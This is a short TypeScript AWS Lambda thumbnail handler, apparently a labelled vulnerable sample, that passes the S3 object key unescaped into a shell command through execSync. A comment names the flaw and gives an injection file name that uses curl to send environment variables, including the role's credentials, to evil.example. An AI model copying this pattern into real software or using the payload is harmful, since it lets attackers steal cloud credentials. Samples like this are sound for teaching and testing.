import { execSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';

interface Upload { readonly s3: { readonly bucket: { readonly name: string }; readonly object: { readonly key: string } } }
interface Uploads { readonly Records: readonly Upload[] }

const s3 = new S3Client({});

/** Makes a thumbnail of each image. */
export async function handler({ Records }: Uploads) {
  for (const { s3: { bucket, object } } of Records) {
    const key = decodeURIComponent(object.key);
    const { Body } = await s3.send(new GetObjectCommand({ Bucket: bucket.name, Key: key }));
    writeFileSync('/tmp/image', await Body.transformToByteArray());
    // lambda-code-no-shell-injection: an image called "x.png; curl evil.example -d "$(env)"" sends the role's credentials away.
    execSync(`convert /tmp/image -resize 200x /tmp/thumbnail-${key}`);
    await s3.send(new PutObjectCommand({ Bucket: bucket.name, Key: `thumbnail-${key}`, Body: readFileSync(`/tmp/thumbnail-${key}`) }));
  }
}
